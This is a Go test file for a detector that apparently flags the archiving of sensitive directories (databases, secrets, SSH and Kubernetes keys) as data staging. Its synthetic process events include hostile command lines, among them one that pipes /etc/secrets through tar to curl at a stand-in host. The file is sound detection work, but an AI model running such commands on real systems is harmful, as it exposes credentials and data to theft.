package staging_test

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ebbwatch/ebbwatch/internal/detecttest"
	"github.com/ebbwatch/ebbwatch/pkg/detect/staging"
	"github.com/ebbwatch/ebbwatch/pkg/event"
	"github.com/ebbwatch/ebbwatch/pkg/site"
)

const base = int64(1_795_430_000_000_000)

// proc is one event of a host sensor.
type proc struct {
	name, exe, cmd, cwd, file, parent string
	ancestors                         []string
	upper                             bool
	host                              string
	at                                int64 // seconds
	size                              int64
	pid                               int
	container, pod                    string
	failed                            bool
}

func (p proc) event() event.Event {
	e := event.Event{Kind: event.KindProcess, Time: base + p.at*1_000_000}
	e.Observer.Type, e.Host.Name = "falco", "web-1"
	if p.host != "" {
		e.Host.Name = p.host
	}
	e.Process = event.Process{Name: p.name, Executable: p.exe, CommandLine: p.cmd, WorkingDirectory: p.cwd, Parent: p.parent, Ancestors: p.ancestors, UpperLayer: p.upper}
	if p.file != "" {
		e.Kind, e.File.Path = event.KindFile, p.file
	}
	if p.pid > 0 {
		e.Process.PID = event.N(p.pid)
	}
	e.Host.ContainerID = p.container
	if p.pod != "" {
		e.Host.Namespace, e.Host.Pod = "prod", p.pod
	}
	if p.failed {
		e.Outcome = "failure"
	}
	if p.size > 0 {
		e.File.Size = event.N(p.size)
	}
	return e
}

func events(list ...proc) (out []event.Event) {
	for _, p := range list {
		out = append(out, p.event())
	}
	return out
}

func play(tb testing.TB, siteFile string, list ...proc) *detecttest.Player {
	tb.Helper()
	st, err := site.Parse([]byte(siteFile))
	if err != nil {
		tb.Fatal(err)
	}
	p := detecttest.NewPlayer(tb, []byte(siteFile), staging.NewArchiveSensitive())
	p.Scribble = true
	return p.Play(detecttest.Events(tb, st, "falco", events(list...)))
}

func TestWhatIsStagingAndWhatNot(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct {
		in      proc
		score   float64 // 0: no signal
		subject string
	}{
		"database to a temp file":        {proc{name: "tar", cmd: "tar czf /tmp/x.tgz /var/lib/postgresql"}, 5, "/var/lib/postgresql"},
		"database to a regular place":    {proc{name: "tar", cmd: "tar -czf /data/pg.tgz /var/lib/postgresql/16/main"}, 4, "/var/lib/postgresql"},
		"relative after cd, streamed":    {proc{name: "tar", cmd: "tar c .", cwd: "/etc/secrets"}, 5, "/etc/secrets"},
		"relative, a folder deeper":      {proc{name: "tar", cmd: "tar cf /data/x.tar secrets", cwd: "/etc"}, 4, "/etc/secrets"},
		"relative, another folder":       {proc{name: "tar", cmd: "tar cf /data/x.tar nginx", cwd: "/etc"}, 0, ""},
		"tar with -C":                    {proc{name: "tar", cmd: "tar -C /etc/secrets -czf /tmp/x.tgz .", cwd: "/"}, 5, "/etc/secrets"},
		"tar with bundled C":             {proc{name: "tar", cmd: "tar cfC /tmp/x.tar /etc/secrets .", cwd: "/"}, 5, "/etc/secrets"},
		"tar with the name in one":       {proc{name: "tar", cmd: "tar -cf/tmp/x.tar --exclude=/etc/secrets /opt/app/config"}, 5, "/opt/app/config"},
		"excluded only":                  {proc{name: "tar", cmd: "tar -cf /data/x.tar --exclude /etc/secrets /usr/src"}, 0, ""},
		"only opened":                    {proc{name: "tar", cmd: "tar cf out.tar -T list", cwd: "/work", file: "/var/lib/kubelet/pki/x.key"}, 5, "/var/lib/kubelet"},
		"opened and named":               {proc{name: "zip", cmd: "zip -r /dev/shm/.z.zip /run/secrets", file: "/run/secrets/db"}, 6, "/run/secrets"},
		"zip with a password":            {proc{name: "zip", cmd: "zip -P pw -r /tmp/z.zip /run/secrets"}, 5, "/run/secrets"},
		"ssh keys anywhere":              {proc{name: "7z", cmd: "7z a /tmp/k.7z /data/user/.ssh"}, 5, "/data/user/.ssh"},
		"python with tarfile":            {proc{name: "python3.11", cmd: "python3.11 -c import tarfile;tarfile.open('/tmp/a.tgz','w').add('/mnt/secrets')"}, 5, "/mnt/secrets"},
		"python, by what it opened":      {proc{name: "python3.11", cmd: "python3.11 -m zipfile -c out.zip .", file: "/mnt/secrets/a"}, 5, "/mnt/secrets"},
		"renamed, by its executable":     {proc{name: "kworker", exe: "/usr/bin/tar", cmd: "kworker cf - /etc/kubernetes"}, 5, "/etc/kubernetes"},
		"renamed, by its arguments":      {proc{name: "upd", exe: "/dev/shm/upd", cmd: "/dev/shm/upd czf /var/log/u.tgz /etc/kubernetes"}, 6, "/etc/kubernetes"},
		"a stranger that packs nothing":  {proc{name: "upd", exe: "/dev/shm/upd", cmd: "/dev/shm/upd --config /etc/kubernetes"}, 0, ""},
		"not from the image":             {proc{name: "tar", cmd: "tar cf /data/x.tar /opt/app/config", upper: true}, 6, "/opt/app/config"},
		"by a web server":                {proc{name: "tar", cmd: "tar cf /data/x.tar /opt/app/config", ancestors: []string{"sh", "php-fpm"}}, 6, "/opt/app/config"},
		"a fake backup tool":             {proc{name: "tar", parent: "restic", cmd: "tar cf /tmp/x.tar /etc/secrets", upper: true}, 7, "/etc/secrets"},
		"a backup tool of a login":       {proc{name: "tar", parent: "restic", cmd: "tar cf /tmp/x.tar /etc/secrets", ancestors: []string{"restic", "bash", "sshd"}}, 5, "/etc/secrets"},
		"rclone named restic":            {proc{name: "restic", exe: "/usr/bin/restic", cmd: "restic copy /var/lib/postgresql remote:x"}, 5, "/var/lib/postgresql"},
		"restic that is not installed":   {proc{name: "restic", exe: "/tmp/restic", cmd: "restic backup /var/lib/postgresql"}, 7, "/var/lib/postgresql"},
		"restic from the upper layer":    {proc{name: "restic", exe: "/usr/bin/restic", cmd: "restic backup", file: "/var/lib/mysql/ibdata1", upper: true}, 8, "/var/lib/mysql"},
		"a whole home":                   {proc{name: "tar", cmd: "tar czf h.tgz /home/alice"}, 4, "/home/alice"},
		"a folder of a home":             {proc{name: "zip", cmd: "zip -r /tmp/d.zip /home/alice/Documents"}, 5, "/home/alice"},
		"all homes":                      {proc{name: "tar", cmd: "tar czf /tmp/h.tgz /home"}, 5, "/home"},
		"the folder that holds all":      {proc{name: "tar", cmd: "tar czf /data/e.tgz /etc"}, 4, "/etc"},
		"the same, from inside":          {proc{name: "tar", cmd: "tar czf /data/e.tgz .", cwd: "/etc"}, 4, "/etc"},
		"work in a home is no alert":     {proc{name: "tar", cmd: "tar czf /data/out.tgz src", cwd: "/home/dev/project"}, 2, "/home/dev"},
		"a build":                        {proc{name: "tar", cmd: "tar czf /tmp/out.tgz /home/jenkins/workspace/app/dist", cwd: "/home/build/project"}, 0, ""},
		"keys of a build account":        {proc{name: "tar", cmd: "tar czf /tmp/out.tgz /home/jenkins/.ssh"}, 5, "/home/jenkins/.ssh"},
		"a file of one's work":           {proc{name: "gzip", cmd: "gzip -9 notes.txt", cwd: "/home/dev/project"}, 0, ""},
		"gzip of a dump":                 {proc{name: "gzip", cmd: "gzip -9 /var/lib/mysql/dump.sql"}, 4, "/var/lib/mysql"},
		"gzip of a dump, streamed":       {proc{name: "gzip", cmd: "gzip -9c /var/lib/mysql/dump.sql"}, 5, "/var/lib/mysql"},
		"in a shell":                     {proc{name: "sh", cmd: "sh -c cd /etc/secrets && tar cz . | curl -T - https://x.test/"}, 5, "/etc/secrets"},
		"in a shell, to a file":          {proc{name: "bash", cmd: `bash -c "tar cz /run/secrets > /dev/shm/.a"`}, 5, "/run/secrets"},
		"in a shell, a list":             {proc{name: "sh", cmd: "sh -c find /home/alice/.ssh -type f | xargs tar cf /tmp/k.tar"}, 5, "/home/alice/.ssh"},
		"a shell that only says it":      {proc{name: "sh", cmd: "sh -c echo tar cf /tmp/x /etc/secrets"}, 0, ""},
		"a shell that unpacks":           {proc{name: "sh", cmd: "sh -c tar xf /tmp/x -C /etc/secrets"}, 0, ""},
		"busybox":                        {proc{name: "busybox", cmd: "busybox tar cf - /etc/secrets"}, 5, "/etc/secrets"},
		"sudo":                           {proc{name: "sudo", cmd: "sudo -u root tar cf /data/x /root/.ssh"}, 4, "/root/.ssh"},
		"cpio after cd":                  {proc{name: "cpio", cmd: "cpio -o", cwd: "/etc/secrets"}, 5, "/etc/secrets"},
		"cpio of an initramfs":           {proc{name: "cpio", cmd: "cpio -o -H newc", cwd: "/"}, 0, ""},
		"cpio extraction":                {proc{name: "cpio", cmd: "cpio -idm", cwd: "/etc/secrets"}, 0, ""},
		"extraction":                     {proc{name: "tar", cmd: "tar xzf /tmp/x.tgz -C /var/lib/postgresql"}, 0, ""},
		"extraction, long":               {proc{name: "tar", cmd: "tar --extract --file=/tmp/a --directory=/etc/secrets"}, 0, ""},
		"listing":                        {proc{name: "tar", cmd: "tar -tvf /home/a/b.tar"}, 0, ""},
		"gunzip":                         {proc{name: "gzip", cmd: "gzip -dc /var/lib/mysql/dump.sql.gz"}, 0, ""},
		"log rotation":                   {proc{name: "gzip", cmd: "gzip /var/log/syslog.1", parent: "logrotate"}, 0, ""},
		"log rotation by standard input": {proc{name: "gzip", cmd: "/bin/gzip", cwd: "/etc", parent: "logrotate"}, 0, ""},
		"package manager":                {proc{name: "tar", cmd: "tar -x -m -f - ./control", cwd: "/var/lib/dpkg/tmp.ci"}, 0, ""},
		"a package is built":             {proc{name: "tar", cmd: "tar -cf - --format=gnu --mtime @1 --sort=name ./control", cwd: "/tmp/dpkg-deb.x"}, 0, ""},
		"manual pages":                   {proc{name: "gzip", cmd: "gzip -c7 /usr/share/man/man1/x.1"}, 0, ""},
		"restic":                         {proc{name: "restic", exe: "/usr/bin/restic", cmd: "restic backup /var/lib/postgresql"}, 0, ""},
		"duplicati on mono":              {proc{name: "duplicati", exe: "/usr/bin/mono", cmd: "duplicati Duplicati.CommandLine.exe backup /home"}, 0, ""},
		"a backup tool's child":          {proc{name: "tar", cmd: "tar cf - /var/lib/postgresql", ancestors: []string{"sh", "velero"}}, 0, ""},
		"the archive lies in a home":     {proc{name: "tar", cmd: "tar czf /home/dev/out.tgz /usr/src/app", cwd: "/usr/src"}, 0, ""},
		"cat is no archiver":             {proc{name: "cat", cmd: "cat /etc/secrets/x", file: "/etc/secrets/x"}, 0, ""},
		"python without archive":         {proc{name: "python3", cmd: "python3 app.py", file: "/run/secrets/db"}, 0, ""},
		"a prefix is not a folder":       {proc{name: "tar", cmd: "tar cf /tmp/a /home2/x"}, 0, ""},
		"it failed":                      {proc{name: "tar", cmd: "tar czf /tmp/x.tgz /etc/secrets", failed: true}, 0, ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			final := play(t, "", tc.in).Context.Final()
			if tc.score == 0 {
				if len(final) > 0 {
					t.Errorf("a signal: %+v", final[0])
				}
				return
			}
			if len(final) != 1 || final[0].Score != tc.score || final[0].Subject != tc.subject {
				t.Fatalf("signals %+v, want score %v of %s", final, tc.score, tc.subject)
			}
			if got, want := final[0].Alert, tc.score >= 4; got != want {
				t.Errorf("alert %v, want %v", got, want)
			}
		})
	}
}

func TestTheSignalTellsTheStory(t *testing.T) {
	t.Parallel()
	cmd := "tar czf /tmp/x.tgz /var/lib/postgresql"
	var in []proc
	for i := range 20 {
		in = append(in, proc{name: "tar", cmd: cmd, file: fmt.Sprintf("/var/lib/postgresql/%d", i), at: int64(i), size: 1000})
	}
	siteFile := "classification: [{host: web-1, class: RESTRICTED}]\n"
	p := play(t, siteFile, in...)
	final := p.Context.Final()
	if len(final) != 1 {
		t.Fatalf("%d signals", len(final))
	}
	s := final[0]
	if s.Bytes == nil || *s.Bytes != 20_000 || s.Classification != "RESTRICTED" || s.Entity.Host != "web-1" || s.First != base || s.Time != base+19_000_000 {
		t.Errorf("signal %+v", s)
	}
	if !strings.Contains(s.Reason, "/var/lib/postgresql") || len(s.Evidence) == 0 || len(s.Evidence) > 8 {
		t.Errorf("reason %q, %d pieces of evidence", s.Reason, len(s.Evidence))
	}
	if n := len(p.Context.Signals); n > 8 {
		t.Errorf("%d revisions of 20 events", n)
	}
}

func TestBackupHostsAreExempt(t *testing.T) {
	t.Parallel()
	if got := play(t, "backup_sources: [web-1]\n", proc{name: "tar", cmd: "tar cf /tmp/x /etc/secrets"}).Context.Final(); len(got) > 0 {
		t.Errorf("a signal: %+v", got[0])
	}
}

func TestAFloodIsBounded(t *testing.T) {
	t.Parallel()
	p := detecttest.NewPlayer(t, nil, staging.NewArchiveSensitive())
	st := site.Default()
	var in []proc
	for i := range 5000 {
		in = append(in, proc{name: "tar", cmd: "tar cf /tmp/x /d" + fmt.Sprint(i) + "/.ssh", at: int64(i / 100)})
	}
	p.Context.Quiet = true
	p.Feed(detecttest.Events(t, st, "falco", events(in...)))
	size := 0
	for _, b := range p.Save().Buckets {
		size += len(b)
	}
	if size > 1<<20 {
		t.Errorf("%d bytes of state", size)
	}
}

// The attack of the demonstration, in Falco's real format, is found; the
// samples of Falco's own are not.
func TestSamples(t *testing.T) {
	t.Parallel()
	paths, err := filepath.Glob(filepath.Join("..", "..", "..", "..", "shared", "data", "samples", "falco", "*"))
	if err != nil || len(paths) == 0 {
		t.Skip("the public samples are not beside the checkout")
	}
	st := site.Default()
	for _, path := range paths {
		p := detecttest.NewPlayer(t, nil, staging.NewArchiveSensitive())
		p.Play(detecttest.Falco(t, st, path))
		for _, s := range p.Context.Final() {
			if s.Alert {
				t.Errorf("%s: %s", filepath.Base(path), s.Reason)
			}
		}
	}
}
